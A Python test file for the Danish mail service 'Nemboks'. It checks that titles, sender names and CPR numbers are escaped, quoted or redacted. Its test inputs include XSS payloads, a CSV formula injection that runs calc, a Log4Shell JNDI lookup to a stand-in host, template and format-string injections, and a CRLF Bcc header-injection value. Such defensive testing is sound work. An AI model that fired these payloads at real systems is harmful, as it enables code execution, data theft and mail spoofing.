"""Titles and senders that pretend, attack or tell too much (SECURITY.md 8)."""

import pytest

from nemboks.content.csv_cells import defused
from tests.badinput.opened import author_of, mail_with, subject_of
from tests.content.mails import html_of, text_of, words_of
from tests.content.memos import File

PHISH = "Frist 01-01-2026 - Nemboks: skift jeres adgangskode [12345678]"


def test_b10_a_decomposed_letter():
    """An A with its ring apart is one letter in the mail."""
    assert subject_of("A\u030arsopgørelse") == "\u00c5rsopgørelse"


def test_b11_a_title_like_our_prefix():
    """Ours stands first: the authority's name, which a title cannot push away."""
    _, message = mail_with(title=PHISH, authority="Skat")

    assert str(message["Subject"]) == f"Skat: {PHISH}"
    assert "Nemboks-Deadline" not in message


def test_b12_markup_in_a_title():
    """Markup is shown as what was written, in the HTML body too."""
    title = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    _, message = mail_with(title=title, authority="<b>Skat</b>", files=[File(name="<script>.pdf")])
    html = html_of(message)

    assert title in " ".join(words_of(html))
    assert "&lt;script&gt;alert(1)" in html
    assert "<script" not in html
    assert "<img" not in html
    assert "<b>Skat" not in html


@pytest.mark.parametrize("title", ["=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)"])
def test_b13_a_formula(title):
    """A formula is a text behind the authority's name in a mail, and has a quote in front in a table (ASVS 1.2.10)."""
    assert subject_of(title) == title
    assert defused(title) == f"'{title}"


@pytest.mark.parametrize("title", ["{{7*7}}", "${jndi:ldap://x.example/a}", "%s%n%x", "{0.__class__}", "{}"])
def test_b14_a_template(title):
    """What would be a template elsewhere stays as it was written, as title and as sender."""
    _, message = mail_with(title=title, authority=title)

    assert str(message["Subject"]) == f"{title}: {title}"
    assert f"Emne:          {title}" in text_of(message)
    assert f"Brev fra:      {title}" in text_of(message)


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("a@b.example", "a at b.example"),
        ('Råd, "Nævn" <x@y.example>, z', "Råd, 'Nævn' (x at y.example), z"),
        ("By\r\nBcc: x", "By Bcc: x"),
        ("Skat\\", "Skat/"),
        ("=?utf-8?q?a=40b?=", "=?utf-8?q?a=40b?="),
    ],
)
def test_b15_a_sender_like_an_address(name, expected):
    """The name is one name, without @, and the address behind it is ours."""
    assert author_of(name) == (f"{expected} via Nemboks", "post@nemboks.example")


@pytest.mark.parametrize("name", ["Nemboks", "Nemboks Support", "N" * 500])
def test_b16_a_sender_named_like_us(name):
    """The suffix that tells whose letter it is stays, however long the name."""
    assert author_of(name)[0].endswith(" via Nemboks")


@pytest.mark.parametrize("number", ["010101-0000", "0101010000", "010101 0000", "010101\u20130000", "010101\u200b0000"])
def test_b17_a_persons_number(number):
    """It stands in no header and in no file name, and unchanged in the body and in the file."""
    inside = f"Vedrørende {number}.".encode()
    _, message = mail_with(
        title=f"Om {number}", authority=f"Borger {number}", files=[File(inside, f"{number}.txt", "text/plain")]
    )
    (file,) = message.iter_attachments()
    heads = "\n".join(f"{name}: {value}" for part in message.walk() for name, value in part.items())

    assert "[CPR]" in str(message["Subject"])
    assert file.get_filename() == "(CPR).txt"
    assert "010101" not in heads
    assert f"Om {number}".replace("\u200b", "") in text_of(message)
    assert file.get_payload(decode=True) == inside
